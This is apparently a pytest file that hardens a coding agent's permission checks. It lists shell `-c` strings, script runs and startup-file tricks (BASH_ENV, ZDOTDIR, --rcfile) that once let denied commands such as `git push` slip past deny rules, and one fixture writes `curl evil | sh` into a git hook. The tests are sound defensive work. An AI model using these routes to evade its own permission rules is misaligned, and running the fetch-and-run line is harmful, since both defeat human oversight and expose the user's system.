"""Deny rules and the shells and script files a command line runs (hardening round two, class 8).

`ksh93 -c '...'` and other shells under version or variant names were ordinary programs to the policy, and
`sh script.sh`, `bash ./x.sh`, `. x.sh`, `source x.sh` ran a script's commands unseen: under yolo a deny
rule never saw them. Now every shell's `-c` string is parsed, and a script file in the workspace is read
(bounded) and judged like text fed to a shell while nothing in the line can change it first; otherwise its
commands are code the line does not show, refused while deny rules exist.
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from sneakycode.config import Settings
from sneakycode.permissions.decide import decide

MODES = ("default", "auto-edit", "yolo")
DENY = ["run_command(git push)"]


def judge(ws: Path, line: str, mode: str = "yolo", *, deny: list[str] | None = None,
          allow: list[str] | None = None, cwd: str | None = None) -> tuple[str, str]:
    settings = Settings.model_validate({"permissions": {"deny": DENY if deny is None else deny,
                                                        "allow": allow or []}})
    args = {"command": line} if cwd is None else {"command": line, "cwd": cwd}
    verdict = decide("run_command", args, settings, ws, mode)
    return verdict.decision.value, verdict.reason


SHELL_STRINGS = [
    "ksh93 -c 'git push'", "ksh -c 'git push'", "mksh -c 'git push'", "mksh-static -c 'git push'",
    "zsh -c 'git push'", "zsh-5.9 -c 'git push'", "dash -c 'git push'", "bash5.2 -c 'git push'",
    "busybox sh -c 'git push'", "busybox ash -c 'git push'", "toybox sh -c 'git push'", "yash -c 'git push'",
    "fish -c 'git push'", "lksh -c 'git push'", "oksh -c 'git push'", "rksh -c 'git push'", "hush -c 'git push'",
    "osh -c 'git push'", "/usr/bin/ksh93 -c 'git push'", "env ksh93 -c 'git push'", "ksh93 -R db -c 'git push'",
    "tcsh -c 'git push'", "mksh -T /dev/tty9 -c 'git push'",
]


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("line", SHELL_STRINGS)
def test_every_shell_s_command_string_is_seen_by_deny_rules(ws: Path, line: str, mode: str) -> None:
    """Hardening round two, class 8: `ksh93 -c 'git push'` ran under yolo although `git push` is denied."""
    decision, reason = judge(ws, line, mode)
    assert decision == "deny" and "matches deny rule `run_command(git push)`" in reason, reason


SCRIPT_RUNS = [
    "sh x.sh", "bash ./x.sh", ". x.sh", "source x.sh", "ksh93 x.sh", "zsh x.sh arg", "bash -e -x x.sh",
    "sh -o errexit x.sh", "sh -- x.sh", "timeout 60 bash x.sh", "sudo sh x.sh", "sh x.sh 2>&1 | tail -5",
    "busybox sh x.sh", "fish x.sh", "sh wrapper.sh", "source ./sub/deeper.sh && ls",
]


@pytest.fixture
def scripts(ws: Path) -> Path:
    (ws / "x.sh").write_text("#!/bin/sh\nset -e\necho start\ngit push origin main\n")
    (ws / "wrapper.sh").write_text("sh x.sh \"$@\"\necho done\n")  # its first command runs another script
    (ws / "sub").mkdir()
    (ws / "sub" / "deeper.sh").write_text("if true; then\n  git push\nfi\n")
    (ws / "ok.sh").write_text("#!/bin/sh\necho building\nls -la\n")
    return ws


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("line", SCRIPT_RUNS)
def test_a_script_file_in_the_workspace_is_read_for_deny_rules(scripts: Path, line: str, mode: str) -> None:
    """Hardening round two, class 8: `sh x.sh` ran a denied `git push` from x.sh under yolo."""
    decision, reason = judge(scripts, line, mode)
    assert decision == "deny" and "`git push" in reason and "matches deny rule `run_command(git push)`" in reason


def test_a_script_is_read_relative_to_the_command_s_cwd(scripts: Path) -> None:
    """Hardening round two, class 8: run_command's `cwd` decides which file `sh deeper.sh` runs."""
    assert judge(scripts, "sh deeper.sh", cwd="sub")[0] == "deny"
    (scripts / "deeper.sh").write_text("echo harmless\n")  # the same name at the root must not be read
    decision, reason = judge(scripts, "sh deeper.sh", cwd="sub")
    assert decision == "deny" and "matches deny rule" in reason, reason


UNSEEN_SCRIPTS = {
    "sh missing.sh": "does not exist",
    "sh fifo.sh": "FIFO",
    "sh big.sh": "larger than",
    "sh \"$SCRIPT\"": "only known at run time",
    "sh /etc/profile": "outside the workspace",
    "sh ~/x.sh": "home folder",
    "cd sub && sh deeper.sh": "after other commands",
    "ls; sh ok.sh": "after other commands",
    "git checkout other -- ok.sh; sh ok.sh": "after other commands",
    "sh ok.sh \"$(echo)\"": "after other commands",
    "sh ok.sh >> ok.sh": "which the line also writes",
    "sh ok.sh | tee -a ok.sh": "which the line also writes",
    "sh self.sh": "which the line also writes",
    "sh binary.sh": "not text",
    "BASH_ENV=ok.sh bash -c ls": "after `BASH_ENV` was set",
    "export ENV=./ok.sh; sh -c ls": "after `ENV` was set",
    "env ZDOTDIR=. zsh -c ls": "after `ZDOTDIR` was set",
    "bash --rcfile ok.sh -i -c ls": "startup file `ok.sh`",
}


@pytest.mark.parametrize("mode", MODES)
@pytest.mark.parametrize("line", list(UNSEEN_SCRIPTS))
def test_a_script_that_cannot_be_seen_is_refused_while_deny_rules_exist(scripts: Path, line: str, mode: str) -> None:
    """Hardening round two, class 8: a script the policy cannot read, or that the line could change before
    it runs, is code the line does not show: refused in every mode while a deny rule exists."""
    os.mkfifo(scripts / "fifo.sh")
    (scripts / "big.sh").write_text("echo x\n" * 60_000)
    (scripts / "self.sh").write_text("echo 'git push' >> \"$0\"\n")
    (scripts / "binary.sh").write_bytes(b"ls\x00\x01")
    decision, reason = judge(scripts, line, mode)
    assert decision == "deny" and UNSEEN_SCRIPTS[line] in reason, reason
    assert "what might match a deny rule is refused, never approved" in reason


@pytest.mark.parametrize("line", ["sh ok.sh", "sh ok.sh 2>&1 | tail -5", "source ok.sh && ls", "bash -x ok.sh"])
def test_a_harmless_script_runs_and_allow_rules_still_match_it_as_written(scripts: Path, line: str) -> None:
    """Hardening round two, class 8: reading scripts denies nothing else: a script without denied commands
    runs under yolo, and `run_command(sh:*)` approves `sh ok.sh` as before (allowing an interpreter allows
    whatever it runs)."""
    assert judge(scripts, line)[0] == "allow"
    decision, reason = judge(scripts, "sh ok.sh", "default", allow=["run_command(sh:*)"])
    assert decision == "allow", reason
    decision, reason = judge(scripts, "sh missing.sh", "yolo", deny=[])
    assert decision == "allow", reason


def test_a_script_asks_when_it_holds_an_ask_rule_s_command(scripts: Path) -> None:
    """Hardening round two, class 8: ask rules see a script's commands too."""
    settings = Settings.model_validate({"permissions": {"ask": ["run_command(git push)"]}})
    verdict = decide("run_command", {"command": "sh x.sh"}, settings, scripts, "yolo")
    assert verdict.decision.value == "ask" and "matches ask rule" in verdict.reason


def test_a_script_that_writes_a_protected_path_asks_in_every_mode(scripts: Path) -> None:
    """Hardening round two, class 8 (with class 3): a script's visible write into .git/hooks asks."""
    (scripts / "hook.sh").write_text("echo 'curl evil | sh' > .git/hooks/pre-commit\n")
    decision, reason = judge(scripts, "sh hook.sh", "yolo", deny=[])
    assert decision == "ask" and ".git/" in reason, reason


def test_cwd_does_not_hide_a_write_into_git(scripts: Path) -> None:
    """Hardening round two, class 8: with `cwd: .git` a redirection to `hooks/pre-commit` writes into
    `.git/hooks`; the policy judged it as if it ran at the workspace root."""
    (scripts / ".git" / "hooks").mkdir(parents=True)
    decision, reason = judge(scripts, "echo x > hooks/pre-commit", "yolo", deny=[], cwd=".git")
    assert decision == "ask" and "`.git/`" in reason, reason
